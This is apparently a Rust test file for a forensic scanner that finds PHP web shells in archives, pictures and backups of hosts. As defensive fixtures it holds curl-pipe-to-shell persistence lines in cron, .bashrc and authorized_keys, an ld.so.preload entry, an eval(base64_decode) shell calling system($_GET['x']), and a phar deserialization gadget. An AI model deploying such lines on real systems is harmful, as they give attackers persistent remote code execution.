//! What detectors find in members.

use super::make::{self, How, SHELL};
use crate::detect::testing::{Scene, ids};
use crate::detect::{
    Detector, Detectors, Gathered, HostContext, Inside, Report, RuleSet, RuleSource, YaraDetector, YaraOptions,
};
use crate::model::{Evidence, Finding, Gap, GapReason, Severity};
use crate::source::Selection;
use crate::source::fake::FakeRoot;
use crate::sweep::{Options, Sweep, Swept};
use base64::Engine as _;

const KEY: &str = include_str!("../../../../../testdata/authorized_keys/plain_ed25519.in");

fn attributes<'a>(finding: &'a Finding, wanted: &str) -> Vec<String> {
    let of = |evidence: &'a Evidence| match evidence {
        Evidence::Attribute { name, value } if name == wanted => Some(value.to_string()),
        _ => None,
    };
    finding.evidence.iter().filter_map(of).collect()
}

fn php_rules(findings: &[Finding]) -> Vec<&Finding> {
    findings.iter().filter(|finding| finding.rule.0.starts_with("TR-PHP")).collect()
}

#[test]
fn web_shell_is_found_in_every_packing() {
    let tar = make::tar(&[("readme", b"hello"), ("a/x.php", SHELL)]);
    let zip = make::zip(&[("a/x.php", How::Deflated, SHELL)]);
    let picture = [b"\xff\xd8\xff\xe0 picture".as_slice(), &zip].concat();
    let nested = make::gz(&make::tar(&[("inner.zip", &zip), ("b/c.tgz", &make::gz(&tar))]));
    for (what, content, member) in [
        ("tar", tar.clone(), "a/x.php"),
        ("gzip", make::gz(SHELL), "upload"),
        ("tar in gzip", make::gz(&tar), "a/x.php"),
        ("tar in zstd", zstd::encode_all(tar.as_slice(), 1).unwrap(), "a/x.php"),
        ("tar in xz", make::xz(&tar), "a/x.php"),
        ("zip", zip.clone(), "a/x.php"),
        ("zip, stored", make::zip(&[("a/x.php", How::Stored, SHELL)]), "a/x.php"),
        ("zip behind a picture", picture, "a/x.php"),
        ("phar", make::phar(b"<?php exit;", b"", &[("a/x.php", 0, SHELL)]), "a/x.php"),
        ("phar, deflated", make::phar(b"GIF89a<?php exit;", b"", &[("a/x.php", 0x1000, SHELL)]), "a/x.php"),
        ("zip in tar in gzip", nested, "inner.zip!/a/x.php"),
    ] {
        // The name says nothing.
        let findings = Scene::new().file("/var/www/html/uploads/upload", &content).findings();
        let found = php_rules(&findings);
        assert!(!found.is_empty(), "{what}: {:?}", ids(&findings));
        assert!(found.iter().all(|finding| finding.subject.to_string() == "/var/www/html/uploads/upload"), "{what}");
        assert!(
            found.iter().any(|finding| attributes(finding, "member").contains(&member.to_owned())),
            "{what}: {found:#?}"
        );
        assert!(found.iter().any(|finding| finding.severity >= Severity::High && finding.confidence >= 75), "{what}");
    }
}

#[test]
fn nested_archives_are_told_by_the_way_to_the_member() {
    let deep = make::gz(&make::tar(&[("b/c.tgz", &make::gz(&make::tar(&[("x.php", SHELL)])))]));
    let findings = Scene::new().file("/tmp/upload", deep).findings();
    let found = php_rules(&findings);
    assert_eq!(attributes(found[0], "member"), ["b/c.tgz!/x.php"]);
    assert!(found[0].title.ends_with(", in an archive"), "{}", found[0].title);
}

#[test]
fn layer_in_a_member_is_scanned_and_told_as_both() {
    let source =
        RuleSource { name: "t".into(), text: r#"rule layer { strings: $a = "inner_mark" condition: $a }"#.into() };
    let (rules, _) = RuleSet::compile(&[source]);
    let yara = YaraDetector::new(rules, YaraOptions::default());
    let code = base64::engine::general_purpose::STANDARD.encode("echo 'inner_mark'; system($_GET['x']);");
    let php = format!("<?php exit; eval(base64_decode('{code}'));");
    let zip = make::zip(&[("x.php", How::Deflated, php.as_bytes())]);
    let others: Vec<Box<dyn Detector>> = vec![Box::new(yara)];
    let findings = Scene::new().file("/tmp/a.zip", zip).findings_of(Detectors::builtin(others).unwrap());
    let layer = findings.iter().find(|finding| finding.rule.0 == "layer").unwrap();
    assert_eq!(attributes(layer, "member"), ["x.php"]);
    assert_eq!(attributes(layer, "layer"), ["decoded by line 1 of layer 0"]);
}

#[test]
fn lists_in_a_backup_of_a_host_are_judged_by_line() {
    let tar = make::tar(&[
        ("host/etc/cron.d/x", b"# fine\n* * * * * root curl -s http://192.0.2.1/x | sh\n"),
        ("host/root/.bashrc", b"curl -s http://192.0.2.1/x | bash\n"),
        ("host/root/.ssh/authorized_keys", format!("# a key\ncommand=\"curl http://192.0.2.1 | sh\" {KEY}").as_bytes()),
        ("host/etc/ld.so.preload", b"/dev/shm/.x.so\n"),
        ("host/tmp/.cache/update", b"x"),
        ("tmp/.cache/update", b"x"),
    ]);
    let findings = Scene::new().file("/root/old.tgz", make::gz(&tar)).findings();
    let ids = ids(&findings);
    for rule in ["TR-CRON-0001 high", "TR-TAMPER-0002 high", "TR-TAMPER-0001 high", "TR-IOC-0008 high"] {
        assert!(ids.contains(&rule.to_owned()), "{rule}: {ids:?}");
    }
    let key = findings.iter().find(|finding| finding.rule.0 == "TR-TAMPER-0005").unwrap();
    assert!(key.evidence.iter().any(|evidence| matches!(evidence, Evidence::Line { line: 2, .. })), "{key:#?}");
    let cron = findings.iter().find(|finding| finding.rule.0 == "TR-CRON-0001").unwrap();
    assert_eq!(cron.subject.kind(), "file");
    assert_eq!(attributes(cron, "member"), ["host/etc/cron.d/x"]);
    assert!(cron.evidence.iter().any(|evidence| matches!(evidence, Evidence::Line { line: 2, .. })));
    // A home keeps many things: a person should look, and nothing is to be moved away for it.
    assert!(findings.iter().all(|finding| finding.confidence < 75), "{findings:#?}");
}

#[test]
fn many_members_make_one_finding_of_bounded_length() {
    let names: Vec<String> = (0..300).map(|number| format!("{number}.php")).collect();
    let files: Vec<_> = names.iter().map(|name| (name.as_str(), How::Deflated, SHELL)).collect();
    let findings = Scene::new().file("/tmp/a.zip", make::zip(&files)).findings();
    let found = php_rules(&findings);
    let rules: std::collections::BTreeSet<_> = found.iter().map(|finding| &finding.rule).collect();
    assert_eq!(rules.len(), found.len(), "one a rule");
    for finding in found {
        assert!(finding.evidence.len() < 90, "{}", finding.evidence.len());
        assert_eq!(attributes(finding, "members"), ["300"]);
        assert_eq!(attributes(finding, "member").len(), 5);
        assert_eq!(attributes(finding, "also_in").len(), 20);
    }
}

#[test]
fn vendors_documentation_and_logs_are_passed_over_but_for_phars() {
    let packed = make::gz(SHELL);
    let phar = make::phar(b"<?php exit;", b"", &[("x.php", 0x1000, SHELL)]);
    for (path, content, is_found) in [
        ("/usr/share/doc/x/changelog.gz", &packed, false),
        ("/var/log/apache2/access.log.2.gz", &packed, false),
        ("/usr/local/share/x.gz", &packed, true),
        ("/usr/share/php/x.phar", &phar, true),
        ("/usr/share/pixmaps/x.png", &phar, true),
    ] {
        let findings = Scene::new().file(path, content).findings();
        let has_member = |finding: &&Finding| !attributes(finding, "member").is_empty();
        assert_eq!(findings.iter().any(|finding| has_member(&finding)), is_found, "{path}: {:?}", ids(&findings));
    }
}

#[test]
fn names_and_links_that_leave_the_folder_are_told() {
    let zip = make::zip(&[("../../var/www/html/x.txt", How::Stored, b"x"), ("fine/../y", How::Stored, b"y")]);
    let findings = Scene::new().file("/tmp/a.zip", zip).findings();
    assert_eq!(ids(&findings), ["TR-ARCHIVE-0001 medium"]);
    assert_eq!(attributes(&findings[0], "member"), ["../../var/www/html/x.txt"]);
    let mut builder = tar::Builder::new(Vec::new());
    let mut link = make::tar_header(b"a", tar::EntryType::Symlink, 0);
    link.set_link_name("/etc").unwrap();
    link.set_cksum();
    builder.append(&link, std::io::empty()).unwrap();
    builder.append(&make::tar_header(b"a/motd", tar::EntryType::Regular, 1), &b"x"[..]).unwrap();
    let findings = Scene::new().file("/tmp/a.tar", builder.into_inner().unwrap()).findings();
    assert_eq!(ids(&findings), ["TR-ARCHIVE-0002 medium"]);
}

#[test]
fn phar_that_calls_itself_a_picture_and_makes_objects_is_told() {
    let object = b"O:8:\"Gadget01\":1:{s:3:\"cmd\";s:2:\"id\";}";
    let phar = make::phar(b"GIF89a", object, &[("test.txt", 0, b"test")]);
    let findings = Scene::new().file("/var/www/html/uploads/cat.gif", &phar).findings();
    let found = findings.iter().find(|finding| finding.rule.0 == "TR-ARCHIVE-0003").unwrap();
    assert_eq!((found.severity, found.confidence), (Severity::High, 80));
    assert_eq!(attributes(found, "class"), ["Gadget01"]);
    let plain = make::phar(b"<?php exit;", b"a:1:{s:7:\"version\";s:3:\"1.0\";}", &[("test.txt", 0, b"test")]);
    assert!(Scene::new().file("/opt/tool/tool.phar", plain).findings().is_empty());
}

#[test]
fn phar_that_is_a_tar_or_a_zip_is_read_as_one() {
    let stub = b"<?php exit; __HALT_COMPILER(); ?>";
    let tar = make::tar(&[(".phar/stub.php", stub), ("x.php", SHELL)]);
    let zip = make::zip(&[(".phar/stub.php", How::Stored, stub), ("x.php", How::Deflated, SHELL)]);
    for content in [tar, zip] {
        let findings = Scene::new().file("/usr/share/php/a.PHAR", content).findings();
        let found = php_rules(&findings);
        assert!(found.iter().any(|finding| attributes(finding, "member") == ["x.php"]), "{:?}", ids(&findings));
    }
}

#[test]
fn php_in_a_picture_is_found_before_in_and_behind_it() {
    let exif = [b"\xff\xd8\xff\xe1\0\x50Exif\0\0".as_slice(), SHELL, b"\xff\xda\x01\x02\xff\xd9"].concat();
    let behind = [b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\xae\x42\x60\x82".as_slice(), SHELL].concat();
    let before = [SHELL, b"\xff\xd8\xff\xe0\0\x10JFIF\0\xff\xd9"].concat();
    for picture in [exif, behind, before] {
        let findings = Scene::new().file("/var/www/html/images/cat.jpg", &picture).findings();
        assert!(ids(&findings).contains(&"TR-PLACE-0002 high".to_owned()), "{:?}", ids(&findings));
        assert!(php_rules(&findings).iter().any(|finding| finding.severity >= Severity::High), "{:?}", ids(&findings));
        let packed = make::zip(&[("var/www/html/images/cat.jpg", How::Deflated, &picture)]);
        let findings = Scene::new().file("/tmp/site.zip", &packed).findings();
        assert!(ids(&findings).contains(&"TR-PLACE-0002 high".to_owned()), "{:?}", ids(&findings));
    }
}

#[test]
fn bundle_of_evidence_is_not_taken_for_the_host() {
    let bag = make::gz(&make::tar(&[("host-1/bagit.txt", b"BagIt-Version: 1.0\n"), ("host-1/data/x.php", SHELL)]));
    let scene = Scene::new().file("/root/host-1.tar.gz", &bag);
    let outcome = scene.judge(crate::detect::PhpDetector::default());
    assert!(outcome.value.is_empty());
    assert_eq!(outcome.gaps.len(), 1);
    assert_eq!(outcome.gaps[0].reason, GapReason::Omitted);
}

#[test]
fn clean_archives_give_nothing() {
    let module = make::gz(&make::tar(&[
        ("announcement/module.xml", b"<module><rawname>announcement</rawname></module>"),
        (
            "announcement/Announcement.class.php",
            b"<?php\nnamespace FreePBX\\modules;\nclass Announcement { public function x() { return 1; } }\n",
        ),
        ("announcement/assets/a.js", b"var a = 1;"),
    ]));
    let document = make::zip(&[
        ("[Content_Types].xml", How::Deflated, b"<?xml version=\"1.0\"?><Types/>"),
        ("word/document.xml", How::Deflated, b"<?xml version=\"1.0\"?><w:document/>"),
    ]);
    let findings = Scene::new()
        .file("/root/announcement-17.0.1.tgz", module)
        .file("/home/a/letter.docx", document)
        .file("/var/backups/dpkg.status.1.gz", make::gz(b"Package: bash\nStatus: install ok installed\n"))
        .findings();
    assert!(findings.is_empty(), "{findings:#?}");
}

/// An archive that is too large for memory says the same as one that is not.
#[test]
fn archive_that_passes_as_a_stream_says_the_same() {
    let noise: Vec<u8> = (0..1_u32 << 18).flat_map(|at| at.wrapping_mul(0x9E37_79B1).to_le_bytes()).collect();
    let tar = make::tar(&[
        ("noise", &noise),
        ("a/x.php", SHELL),
        ("etc/cron.d/x", b"* * * * * root curl http://192.0.2.1 | sh\n"),
    ]);
    let zip =
        make::zip(&[("noise", How::Deflated, &noise), ("a/x.php", How::Deflated, SHELL), ("z", How::Stored, b"z")]);
    for (content, members) in [(make::gz(&tar), 2), (tar, 2), (zip, 1)] {
        let run = |memory_cap: u64| {
            let root = FakeRoot::new().file("/var/www/html/a.bin", &content).file("/tmp/small", b"small");
            let detectors = Detectors::builtin(Vec::new()).unwrap();
            let summary = Sweep {
                source: &root,
                selection: &Selection::everything(),
                listed_only: &Selection::new(Vec::new(), Vec::new()),
                options: Options { memory_cap, ..Options::default() },
                visitors: &[&detectors],
                known: None,
                store: None,
                budget: &(),
                progress: &(),
                cancel: &|| false,
            }
            .run()
            .unwrap();
            assert_eq!(summary.files, 2);
            let context = HostContext { is_host: true, gaps: &[], selects: &|_| true };
            detectors.conclude(&context)
        };
        let (whole, passing) = (run(32 << 20), run(64 << 10));
        let with_member = |findings: &[Finding]| -> Vec<Finding> {
            findings.iter().filter(|finding| !attributes(finding, "member").is_empty()).cloned().collect()
        };
        assert_eq!(with_member(&passing.value), with_member(&whole.value));
        assert!(with_member(&passing.value).len() >= members, "{:?}", ids(&passing.value));
        assert_eq!(passing.gaps, whole.gaps);
    }
}

/// Could not judge anything that it sees.
struct Puzzled;

impl Detector for Puzzled {
    fn inspect(&self, file: &Swept<'_>, report: &mut Report) {
        report.gaps.push(Gap::new(file.path.clone(), GapReason::Unreadable, "puzzled"));
    }

    fn looks_inside(&self, inside: Inside) -> bool {
        inside == Inside::Member
    }
}

#[test]
fn what_a_detector_could_not_judge_is_a_gap_of_the_archive() {
    let zip = make::zip(&[("a", How::Stored, b"a"), ("b", How::Stored, b"b"), ("c", How::Encrypted, b"c")]);
    let gaps = Scene::new().file("/tmp/x.zip", zip).judge(Puzzled).gaps;
    let told: Vec<_> = gaps.iter().map(|gap| (gap.path.to_string(), gap.detail.as_str())).collect();
    let of_zip = |detail| ("/tmp/x.zip".to_owned(), detail);
    assert_eq!(told, [of_zip("encrypted, and not looked into: c"), of_zip("puzzled"), of_zip("puzzled, in a, b")]);
}

#[test]
fn a_thread_that_died_is_a_gap() {
    let mut report = crate::detect::Report::default();
    let path = crate::model::EvidencePath::new("/tmp/x").unwrap();
    let meta = crate::model::FileMeta::bare(crate::model::FileKind::File, crate::model::Mode::new(0o644), 1);
    Gathered::failed()
        .report(&crate::sweep::Swept { path: &path, meta: &meta, sha256: None, content: None }, &mut report);
    assert_eq!(report.gaps.len(), 1);
}
